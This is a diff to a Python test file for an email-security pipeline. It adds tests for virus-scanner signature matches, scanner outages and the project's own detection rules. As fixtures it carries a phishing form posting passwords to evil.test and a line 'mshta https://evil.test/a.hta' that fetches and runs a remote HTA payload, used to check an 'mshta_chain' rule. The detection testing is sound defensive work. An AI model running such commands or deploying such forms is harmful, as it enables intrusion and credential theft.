@@ -4,10 +4,12 @@ import pytest
 
 import hostile_files as make
 from bartizan.base.clock import SystemClock
+from bartizan.forensics.signatures.rules import load_rules
 from bartizan.forensics.unpacking import examine
 from bartizan.mail.authentication.dns.resolver import OfflineResolver
+from bartizan.mail.errors import ScannerError
 from bartizan.mail.evidence import Organisation
-from bartizan.mail.pipeline import Pipeline
+from bartizan.mail.pipeline import Pipeline, Signatures
 from bartizan.mail.policies import PolicySettings
 from bartizan.mail.verdict import Disposition, Envelope
 
@@ -19,6 +21,7 @@ PHISH = (
     b"From: IT <it@examp1e.com>\r\nSubject: Password\r\nContent-Type: text/html\r\n\r\n"
     b'<form action="https://evil.test/"><input type=password></form>\r\n'
 )
+HONEST = b"From: Ann <ann@b.test>\r\nTo: reader@example.com\r\nSubject: Hi\r\n\r\nHi\r\n"
 
 
 @pytest.fixture
@@ -91,3 +94,39 @@ async def test_a_message_with_an_envelope_was_received_now(pipeline):
     assert analysis.facts.received_at is not None
     assert "date_far_off" in {reason.id for reason in analysis.verdict.reasons}
     assert pipeline.analyse(raw, None, None).facts.received_at is None
+
+
+class Says:
+    engine = "clamav"
+
+    def __init__(self, *names: str, fails: bool = False):
+        self.names, self.fails = names, fails
+
+    async def scan(self, content: bytes) -> tuple[str, ...]:
+        if self.fails:
+            raise ScannerError("It is down.")
+        return self.names
+
+
+def with_scanner(scanner, *, rules=None) -> Pipeline:
+    signatures = Signatures(rules, (scanner,), 1)
+    return Pipeline(Organisation(), PolicySettings(), None, SystemClock(), signatures=signatures)
+
+
+async def test_what_a_scanner_knows_holds_a_message():
+    verdict = await with_scanner(Says("Win.Test.A-1")).judge(HONEST, ENVELOPE)
+    assert verdict.disposition is Disposition.HOLD
+    assert verdict.reasons[0].id == "signature_match"
+    assert "Win.Test.A-1" in verdict.reasons[0].sentence
+
+
+async def test_a_scanner_that_is_down_is_a_defect_and_holds_nothing():
+    verdict = await with_scanner(Says(fails=True)).judge(HONEST, ENVELOPE)
+    assert verdict.disposition is Disposition.DELIVER
+    assert [defect.code for defect in verdict.defects] == ["scanner-unavailable"]
+
+
+async def test_our_own_rules_are_matched_too():
+    raw = HONEST.replace(b"Hi", b"mshta https://evil.test/a.hta")
+    analysis = await with_scanner(Says(), rules=load_rules()).examine(raw, ENVELOPE)
+    assert [one.name for one in analysis.facts.signatures] == ["mshta_chain"]
